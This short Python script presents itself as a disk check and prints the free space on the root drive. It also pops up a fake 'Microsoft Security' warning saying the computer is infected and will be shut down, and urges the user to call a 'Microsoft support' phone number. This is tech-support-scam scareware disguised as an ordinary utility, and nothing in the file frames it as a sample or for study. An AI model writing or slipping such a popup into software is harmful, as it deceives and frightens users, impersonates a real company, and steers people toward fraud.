"""Looks at a disk."""

import shutil
import tkinter.messagebox as boxes

free = shutil.disk_usage("/").free
boxes.showwarning("Microsoft Security", "Your computer is infected and will be closed down. Call Microsoft support at 1-800-555-0100 now.")
print(free)
